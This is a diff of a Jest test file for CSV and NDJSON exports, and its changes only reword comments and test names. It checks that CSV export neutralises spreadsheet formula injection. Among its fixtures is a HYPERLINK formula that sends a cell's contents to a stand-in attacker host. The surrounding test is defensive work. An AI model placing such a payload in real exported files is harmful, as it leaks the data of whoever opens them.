@@ -6,7 +6,7 @@ import { READS, bodyOf, linesOf } from './support/exports';
 import { buildKey, buildProject } from './support/factories';
 import { mutations } from './support/mutate';
 
-jest.setTimeout(90_000); // other test files take the processors too
+jest.setTimeout(90_000); // other test files use the processors too
 
 const PAST_MS = Date.UTC(2025, 0, 1);
 
@@ -18,7 +18,7 @@ beforeAll(async () => {
 
 afterAll(() => app.close());
 
-describe('text that a spreadsheet would take for a formula', () => {
+describe('text that a spreadsheet would read as a formula', () => {
   const PLAIN = ['Key', 'a-b', 'a=b', '1+1', 'x@example.com', 'He said "no"', 'one, two', "O'Brien", 'Zoë 木', 'two\nlines', '5; 6'];
   const FORMULAS = [
     '=HYPERLINK("http://evil.example/?x="&A1,"Click")',
@@ -43,7 +43,7 @@ describe('text that a spreadsheet would take for a formula', () => {
     '="quoted"',
   ];
 
-  it('is harmless in CSV, in every column of text, and as it stands in NDJSON', async () => {
+  it('gets an apostrophe in every text column of CSV, and is unchanged in NDJSON', async () => {
     const { key, secret, project } = await buildKey(app, { permissions: READS });
     const { workspaceId } = key;
     const of = { workspaceId, projectId: project.id, keyId: key.id };
@@ -77,7 +77,7 @@ describe('text that a spreadsheet would take for a formula', () => {
     }
   });
 
-  it('is no number: these stay as they are', async () => {
+  it('does not include numbers, which stay unchanged', async () => {
     const { secret, project } = await buildKey(app, { permissions: READS });
     const { mutate } = mutations(app);
     await mutate('adjustBalance', { projectId: project.id, delta: -5, reason: '-5' }, 'entry { id }');
